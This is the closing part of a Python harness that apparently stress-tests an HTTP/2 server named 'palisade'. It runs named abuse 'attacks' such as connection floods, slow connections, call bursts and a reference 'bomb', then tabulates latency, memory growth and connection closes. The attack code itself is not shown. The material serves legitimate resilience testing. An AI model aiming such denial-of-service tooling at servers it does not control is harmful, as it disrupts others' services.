            moved = {f"{f}:{r}": v - before.get((f, r), 0) for (f, r), v in after.items() if v > before.get((f, r), 0)}
            calls = summary(caller.window(start, end))
            r = {**outcome.result(), "caller": calls, "seconds": round(end - start, 2),
                 "rss_peak_mib": round(peak / 2**20, 1), "rss_growth_mib": round((peak - base_rss) / 2**20, 1),
                 "metric": "palisade_admin_metrics_cached_total" if reasons == ["metrics_cached"]
                 else f"palisade_{family}_refusals_total", "counted": counted, "all_counted": moved,
                 "fds_after": server.fds(), "server_alive": server.proc.poll() is None}
            if calls["p99_ms"] and baseline["p99_ms"]:
                r["p99_ratio"] = round(calls["p99_ms"] / baseline["p99_ms"], 2)
            results[name] = r
            print(f"RESULT {name} " + json.dumps(r), flush=True)
            # Let the server settle (closed connections, timers) before the next attack.
            time.sleep(args.settle)
    finally:
        caller.stop()
        server.stop()
    table(baseline, results)


def table(baseline, results):
    print(f"\nbaseline: p50 {baseline['p50_ms']} ms, p99 {baseline['p99_ms']} ms, {baseline['calls']} calls, "
          f"RSS {baseline['rss_mib']} MiB")
    print(f"{'attack':<16} {'p99 ms':>8} {'x base':>7} {'failed':>6} {'RSS +MiB':>8} {'GOAWAY':>7} "
          f"{'closed':>9} {'1st close s':>11}  counted")
    for name, r in results.items():
        c = r["caller"]
        print(f"{name:<16} {str(c['p99_ms']):>8} {str(r.get('p99_ratio')):>7} {c['failed']:>6} "
              f"{r['rss_growth_mib']:>8} {str(r['goaway']):>7} {r['closed_connections']:>4}/{r['connections']:<4} "
              f"{str(r['first_close_s']):>11}  {json.dumps(r['counted'])}")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["run", "caller", "burst"])
    p.add_argument("--bin")
    p.add_argument("--config")
    p.add_argument("--log", default="/tmp/palisade-h2-abuse.log")
    p.add_argument("--port", type=int)
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--attacker-cert", help="the attackers' client certificate (default: --cert, the caller's)")
    p.add_argument("--attacker-key")
    p.add_argument("--attacks", default="all")
    p.add_argument("--burst", type=int, default=40, help="burst mode: ServerLive calls sent in one write")
    p.add_argument("--duration", type=float, default=3.0, help="seconds per attack")
    p.add_argument("--baseline", type=float, default=5.0)
    p.add_argument("--warmup", type=float, default=1.0)
    p.add_argument("--settle", type=float, default=0.5)
    p.add_argument("--close-wait", type=float, default=8.0, help="how long to wait for the server to close")
    p.add_argument("--idle-connections", type=int, default=1000)
    p.add_argument("--slow-connections", type=int, default=50)
    p.add_argument("--bomb-refs", type=int, default=60, help="4 KiB references per block (decoder limit 256 KiB)")
    p.add_argument("--server-cpus", help="run the server and the caller on these CPUs (taskset list, e.g. 0)")
    p.add_argument("--attacker-cpus", help="run the attackers (this process) on these CPUs (e.g. 1), so that the "
                   "attacking client does not take CPU from the server and caller it is measured against")
    args = p.parse_args()
    if args.mode == "run" and args.attacker_cpus:
        os.sched_setaffinity(0, {int(c) for part in args.attacker_cpus.split(",") for c in
                                 (range(int(part.split("-")[0]), int(part.split("-")[-1]) + 1))})
    if args.mode == "caller":
        caller_main(args)
    elif args.mode == "burst":
        burst_main(args)
    else:
        run(args)


if __name__ == "__main__":
    sys.exit(main())
